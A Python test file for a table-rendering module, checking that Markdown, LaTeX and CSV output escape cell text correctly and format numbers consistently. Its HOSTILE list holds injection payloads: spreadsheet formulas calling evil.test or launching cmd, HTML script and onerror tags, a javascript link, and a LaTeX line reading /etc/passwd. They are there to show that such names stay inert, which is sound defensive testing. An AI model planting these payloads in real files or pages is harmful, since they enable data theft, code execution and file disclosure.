"""Spellings of a table: what a cell says survives each of them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from PIL import Image

from baselines.tables.grid import Grid, cell, code, draw, number, to_csv, to_latex, to_markdown

GRID = Grid(
    "A & B", ["model", "100% _ok_"], [["`sft_s__rl`", "1.00"], ["", "–"], ["x|y", "$5"]], "A note.", blocks=True
)


def test_markdown_keeps_pipes_inside_cells() -> None:
    """Guards the columns: a name with a pipe must not open one."""
    assert to_markdown(GRID).splitlines() == [
        "**A & B**",
        "",
        "A note.",
        "",
        "| model | 100% _ok_ |",
        "| --- | ---: |",
        "| `sft_s__rl` | 1.00 |",
        "|  | – |",
        "| x\\|y | $5 |",
    ]


def test_latex_escapes_and_parts_blocks() -> None:
    """Guards a document that does not compile: names hold underscores, heads hold percent signs."""
    lines = to_latex(GRID).splitlines()
    assert r"\caption{A \& B. A note.}" in lines
    assert r"model & 100\% \_ok\_ \\" in lines
    body = lines[lines.index(r"\midrule") + 1 : lines.index(r"\bottomrule")]
    assert body == [r"\texttt{sft\_s\_\_rl} & 1.00 \\", r" & -- \\", r"\midrule", r"x\textbar{}y & \$5 \\"]


def test_csv_has_no_dress() -> None:
    assert to_csv(GRID).splitlines()[1] == "sft_s__rl,1.00"


HOSTILE = [
    '=HYPERLINK("http://evil.test/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r\n=1+1",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "a`<b>`c",
    "[x](javascript:alert(1))",
    "| a | b |\n| --- |",
    "\\input{/etc/passwd}",
    "%\\end{tabular}",
    "[3cm] model",
    "* star",
    "$\\frac$ {",
    "tab\there\x07\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_of_others_stays_text(text: str, tmp_path: Path) -> None:
    """Guards whoever opens a table: a model or a task whose name is a formula, markup or a command."""
    grid = Grid(text, ["", text], [[code(text), "-0.10*"], [text, "+0.50 [0.10, 0.90]"]], text)
    rows = list(csv.reader(io.StringIO(to_csv(grid))))
    assert len(rows) == 3 and all(len(row) == 2 for row in rows)
    assert [row[1] for row in rows[1:]] == ["-0.10*", "+0.50 [0.10, 0.90]"]
    assert not any(cell.startswith(("=", "@", "\t", "\r", "+1+", "-2+")) for row in rows for cell in row)
    lines = to_markdown(grid).splitlines()
    table = lines[lines.index("| --- | ---: |") - 1 :]
    assert len(table) == 4
    for line in table:
        assert len(re.findall(r"(?<!\\)\|", line)) == 3
    bare = re.sub(r"`[^`]*`", "", "\n".join(lines))
    assert "<" not in bare and "](" not in bare
    latex = to_latex(grid)
    assert not re.search(r"\\(?:input|frac)|(?<!\\)[%$]|^[\[*]", latex, re.MULTILINE)
    assert latex.count(r"\end{tabular}") == 1
    draw(grid, tmp_path / "table.png")


def test_image_grows_with_the_table_and_is_reproducible(tmp_path: Path) -> None:
    one, two = draw(GRID, tmp_path / "one.png"), draw(GRID, tmp_path / "two.png")
    assert one.read_bytes() == two.read_bytes()
    wide = draw(Grid("", ["m", *"abcdef"], [["m", *"123456"]] * 9), tmp_path / "wide.png")
    with Image.open(one) as small, Image.open(wide) as large:
        assert large.width > small.width and large.height > small.height
    with pytest.raises(ValueError, match="without rows"):
        draw(Grid("", ["m"], []), tmp_path / "none.png")


def test_numbers_of_other_metrics_keep_their_digits() -> None:
    """Guards against an L1 of 0.01 that is printed as 0.01 for every model."""
    assert cell(3.14159, (2.0, 4.0)) == "3.14 [2.00, 4.00]"
    assert cell(0.0123456, (0.01, 0.02), metric="l1") == "0.01235 [0.01000, 0.02000]"
    assert [number(value, "x") for value in (0.0, 1.5e-7, 21.32, 123456.0)] == ["0.000", "1.5e-07", "21.32", "123456"]
    assert cell(-0.001, None) == "0.00" and cell(-0.001, None, "+") == "+0.00"
    assert cell(None, None) == "–" and cell(1.0, None, "+") == "+1.00"
